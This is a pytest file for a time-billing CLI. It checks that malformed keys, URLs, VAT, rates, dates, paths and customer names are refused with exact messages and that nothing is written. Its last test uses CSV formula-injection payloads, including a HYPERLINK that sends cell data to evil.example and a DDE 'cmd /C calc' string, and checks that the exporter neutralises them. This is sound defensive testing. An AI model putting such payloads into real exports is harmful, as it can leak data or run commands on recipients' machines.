"""Bad input from the user, in the config file, the environment and on the command line: each
case is refused with its exact message (one `timebill: ...` line on stderr; exit 2 for a value on
the command line, "bad usage", else 1), and nothing is written: the config file keeps its bytes and mode, Billomat gets no invoice, no tracker entry
changes, the journal records no plan, assignment or client setting.

(The setup screen's share of this lives with the app's tests.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from billing_env import OCTOBER
from reliability_support import SUMMARY, Env, module_env
from timebill.core.billing.journal import Journal
from timebill.core.cli.demo import demo_config

INVOICE = ("invoice", "--customer", "müller", *OCTOBER, "--yes")
KNOWN = (
    "Known customers: Bäckerei Schäfer KG, Brückner Maschinenbau GmbH, Grünwald Architekten "
    "PartG, Höfer Logistik AG, Kühne Medientechnik e.K., Müller & Söhne GmbH, Stadtwerke "
    "Lüneburg GmbH, Weiß & Partner Steuerberatung."
)
KEY_REFUSED = (
    "is not a valid API key: paste it exactly as the service shows it (letters, digits and "
    "punctuation only: no spaces, line breaks or accented letters)"
)


@dataclass(frozen=True)
class Case:
    says: str  # the exact message after "timebill: "; {config} is the config file's path
    argv: tuple[str, ...] = INVOICE
    config: dict[str, dict[str, Any]] = field(default_factory=dict)  # changes in the file
    environ: dict[str, str] = field(default_factory=dict)  # values may name {config} too
    code: int = 1
    toml: str = ""  # raw TOML put before the tables (what tomli_w cannot write)


CASES: dict[str, Case] = {
    # -- keys --------------------------------------------------------------------------------
    "empty key in the file": Case(
        "mite.api_key is not set: add it in the setup, the config file or TIMEBILL_MITE__API_KEY.",
        config={"mite": {"api_key": ""}},
    ),
    "blank key in the environment": Case(
        "mite.api_key is not set: add it in the setup, the config file or TIMEBILL_MITE__API_KEY.",
        config={"mite": {"api_key": ""}},
        environ={"TIMEBILL_MITE__API_KEY": "   "},
    ),
    "key with a space": Case(
        f"{{config}}: [mite] api_key: {KEY_REFUSED}",
        config={"mite": {"api_key": "a3f9c27e 5b1d8046"}},
    ),
    "key with a line break": Case(
        f"{{config}}: [billomat] api_key: {KEY_REFUSED}",
        config={"billomat": {"api_key": "c4e1d6a2f9b3\n8e7d5c0a1f2b4e6d9"}},
    ),
    "key with an accented letter": Case(
        f"{{config}}: [mite] api_key: {KEY_REFUSED}",
        config={"mite": {"api_key": "a3f9c27é5b1d8046"}},
    ),
    "key with a line break in the environment": Case(
        f"TIMEBILL_MITE__API_KEY: {KEY_REFUSED}",
        environ={"TIMEBILL_MITE__API_KEY": "a3f9c27e\n5b1d8046"},
    ),
    "key that is not text": Case(
        "{config}: [mite] api_key: must be text, in quotes",
        config={"mite": {"api_key": 12345}},
    ),
    # -- account names and IDs ---------------------------------------------------------------
    "account name with a scheme": Case(
        '{config}: [mite] account: enter just the account name, e.g. "nordlicht" from '
        "https://nordlicht.mite.de",
        config={"mite": {"account": "https://nordlicht.mite.de"}},
    ),
    "account name with slashes": Case(
        '{config}: [mite] account: enter just the account name, e.g. "nordlicht" from '
        "https://nordlicht.mite.de",
        config={"mite": {"account": "nordlicht/team"}},
    ),
    "Billomat ID that is a URL": Case(
        '{config}: [billomat] billomat_id: enter just the ID, e.g. "nordlicht" from '
        "https://nordlicht.billomat.net",
        config={"billomat": {"billomat_id": "https://nordlicht.billomat.net/app/invoices"}},
    ),
    "account name in the environment with a scheme": Case(
        'TIMEBILL_MITE__ACCOUNT: enter just the account name, e.g. "nordlicht" from '
        "https://nordlicht.mite.de",
        environ={"TIMEBILL_MITE__ACCOUNT": "http://nordlicht.mite.de"},
    ),
    "plain http to a name under .localhost": Case(
        "{config}: [mite] base_url: must start with https:// (plain http:// is only allowed to "
        "127.0.0.1, ::1 or localhost: the API key would travel unencrypted)",
        config={"mite": {"base_url": "http://evil.localhost:8080/mite"}},
    ),
    # -- VAT ---------------------------------------------------------------------------------
    "VAT -5 in the file": Case(
        "{config}: [invoice] default_vat: must be a percentage between 0 and 100, e.g. 19 (got -5)",
        config={"invoice": {"default_vat": -5}},
    ),
    "VAT 1000 in the file": Case(
        "{config}: [invoice] default_vat: must be a percentage between 0 and 100, e.g. 19 "
        "(got 1000)",
        config={"invoice": {"default_vat": 1000}},
    ),
    'VAT "19,5" in the file': Case(
        '{config}: [invoice] default_vat: "19,5" has a decimal comma: use a dot, as in 19.5',
        config={"invoice": {"default_vat": "19,5"}},
    ),
    "VAT 1000 in the environment": Case(
        "TIMEBILL_INVOICE__DEFAULT_VAT: must be a percentage between 0 and 100, e.g. 19 (got 1000)",
        environ={"TIMEBILL_INVOICE__DEFAULT_VAT": "1000"},
    ),
    "--vat -5": Case("--vat '-5' is out of range (0 to 100).", argv=(*INVOICE, "--vat=-5"), code=2),
    "--vat 1000": Case(
        "--vat '1000' is out of range (0 to 100).", argv=(*INVOICE, "--vat", "1000"), code=2
    ),
    "--vat 19,5": Case(
        "--vat '19,5' is not a number (use a dot: 19.5).", argv=(*INVOICE, "--vat", "19,5"), code=2
    ),
    "--vat NaN": Case(
        "--vat 'NaN' is not a number (use digits, e.g. 95 or 19.5).",
        argv=(*INVOICE, "--vat", "NaN"),
        code=2,
    ),
    "--rate -95": Case(
        "--rate '-95' is out of range (0 to 100000).", argv=(*INVOICE, "--rate=-95"), code=2
    ),
    "--rate NaN": Case(
        "--rate 'NaN' is not a number (use digits, e.g. 95 or 19.5).",
        argv=(*INVOICE, "--rate", "NaN"),
        code=2,
    ),
    "--rate Infinity": Case(
        "--rate 'Infinity' is not a number (use digits, e.g. 95 or 19.5).",
        argv=(*INVOICE, "--rate", "Infinity"),
        code=2,
    ),
    "--rate 1e400": Case(
        "--rate '1e400' is out of range (0 to 100000).", argv=(*INVOICE, "--rate", "1e400"), code=2
    ),
    # -- dates -------------------------------------------------------------------------------
    "dates out of order": Case(
        "the period is backwards: --from 2026-10-31 is after --to 2026-10-01.",
        argv=("invoice", "--customer", "müller", "--from", "2026-10-31", "--to", "2026-10-01"),
        code=2,
    ),
    "dates out of order (entries)": Case(
        "the period is backwards: --from 2026-10-31 is after --to 2026-10-01.",
        argv=("entries", "--from", "31.10.2026", "--to", "01.10.2026"),
        code=2,
    ),
    "30 February": Case(
        "--from '2026-02-30' is not a valid date: use YYYY-MM-DD (e.g. 2026-10-31), "
        "DD.MM.YYYY or DD.MM.YY (e.g. 31.10.26).",
        argv=("invoice", "--customer", "müller", "--from", "2026-02-30", "--to", "2026-03-31"),
        code=2,
    ),
    "31.02.2026": Case(
        "--to '31.02.2026' is not a valid date: use YYYY-MM-DD (e.g. 2026-10-31), "
        "DD.MM.YYYY or DD.MM.YY (e.g. 31.10.26).",
        argv=("invoice", "--customer", "müller", "--from", "2026-02-01", "--to", "31.02.2026"),
        code=2,
    ),
    "month 13": Case(
        "--from '2026-13-01' is not a valid date: use YYYY-MM-DD (e.g. 2026-10-31), "
        "DD.MM.YYYY or DD.MM.YY (e.g. 31.10.26).",
        argv=("entries", "--from", "2026-13-01"),
        code=2,
    ),
    "a date in words": Case(
        "--to 'gestern' is not a valid date: use YYYY-MM-DD (e.g. 2026-10-31), "
        "DD.MM.YYYY or DD.MM.YY (e.g. 31.10.26).",
        argv=("entries", "--to", "gestern"),
        code=2,
    ),
    # -- files and folders ------------------------------------------------------------------
    "a deeply nested config file": Case(
        "{config}: not valid TOML: nested too deeply",
        toml="deep = " + "[" * 5000 + "]" * 5000 + "\n",
    ),
    "a data dir that is a file": Case(
        "the data dir {config} is a file, not a folder: point TIMEBILL_DATA_DIR at a folder "
        "(`timebill locate` shows where timebill keeps its journal).",
        environ={"TIMEBILL_DATA_DIR": "{config}"},
    ),
    # -- the support log ---------------------------------------------------------------------
    "log file in a folder that does not exist": Case(
        "cannot write the log file no-such-folder/timebill.log (No such file or directory): "
        "check --log-file or TIMEBILL_LOG.",
        argv=("--log-file", "no-such-folder/timebill.log", *INVOICE),
    ),
    "TIMEBILL_LOG naming a folder": Case(
        "cannot write the log file . (Is a directory): check --log-file or TIMEBILL_LOG.",
        environ={"TIMEBILL_LOG": "."},
    ),
    # -- customers ---------------------------------------------------------------------------
    "unknown customer": Case(
        f"unknown customer 'Nordwind Reederei'. {KNOWN}",
        argv=("invoice", "--customer", "Nordwind Reederei", *OCTOBER, "--yes"),
        code=2,
    ),
    "unknown customer (entries)": Case(
        f"unknown customer 'Nordwind'. {KNOWN}",
        argv=("entries", "--customer", "Nordwind", *OCTOBER),
        code=2,
    ),
    "ambiguous customer": Case(
        "customer 'gmbh' is ambiguous: it matches Brückner Maschinenbau GmbH, Müller & Söhne "
        "GmbH, Stadtwerke Lüneburg GmbH.",
        argv=("invoice", "--customer", "gmbh", *OCTOBER, "--yes"),
        code=2,
    ),
}


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    with module_env(tmp_path_factory.mktemp("bad-input"), "mite") as env:
        yield env


def write_config(env: Env, changes: dict[str, dict[str, Any]], toml: str = "") -> bytes:
    """The sandbox config with `changes` (and `toml` in front), written as raw TOML
    (save_settings would refuse it)."""
    doc = {
        k: dict(v) if isinstance(v, dict) else v for k, v in demo_config(env.server, "mite").items()
    }
    for section, values in changes.items():
        doc.setdefault(section, {}).update(values)
    payload = (toml + tomli_w.dumps(doc)).encode()
    path = env.billing.config
    path.write_bytes(payload)
    os.chmod(path, 0o600)
    return payload


def journal_rows(data: Path) -> tuple[int, int, int]:
    journal_file = data / "journal.sqlite3"
    if not journal_file.exists():
        return (0, 0, 0)
    with Journal(journal_file) as journal:
        db = journal._db
        return tuple(  # type: ignore[return-value]
            db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
            for table in ("plans", "assignments", "client_settings")
        )


@pytest.mark.parametrize("name", list(CASES))
def test_refused_with_its_exact_message_and_nothing_written(
    env: Env, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = CASES[name]
    payload = write_config(env, case.config, case.toml)
    config = env.billing.config
    for variable, value in case.environ.items():
        monkeypatch.setenv(variable, value.format(config=config))
    invoices, entries = env.billing.invoices(), env.billing.entries()

    run = env.run(*case.argv)

    assert (run.code, run.out) == (case.code, ""), run.text
    assert run.err == f"timebill: {case.says.format(config=config)}\n"
    assert config.read_bytes() == payload
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert [p.name for p in config.parent.iterdir()] == ["config.toml"]
    assert env.billing.invoices() == invoices
    assert env.billing.entries() == entries
    assert journal_rows(env.billing.data) == (0, 0, 0)
    SUMMARY["bad input"]["cases refused with their message, nothing written"] += 1


FORMULAS = {
    # note -> the CSV cell: a spreadsheet shows it as text instead of running it
    '=HYPERLINK("https://evil.example/?"&A1,"Details")': '\'=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 30 1234567 angerufen": "'+49 30 1234567 angerufen",
    "-2+3": "'-2+3",
    "\t=1+1": "' =1+1",
    "\r=1+1": "' =1+1",
    # a negative number is no formula: it stays a number the spreadsheet can add up
    "-12.50": "-12.50",
    "Abstimmung = Termin": "Abstimmung = Termin",
}


def test_entries_csv_neutralises_formula_cells(env: Env) -> None:
    day = dt.date(2026, 10, 14)
    model = env.models("Müller")[0]
    ids = {env.add_entry(day, model, note): cell for note, cell in FORMULAS.items()}

    run = env.run("entries", "--customer", "müller", *OCTOBER, "--format", "csv")

    assert run.code == 0, run.text
    notes = {row["id"]: row["note"] for row in csv.DictReader(io.StringIO(run.out))}
    assert {i: notes[i] for i in ids} == ids
    SUMMARY["bad input"]["formula cells neutralised in CSV"] += sum(
        cell.startswith("'") for cell in ids.values()
    )
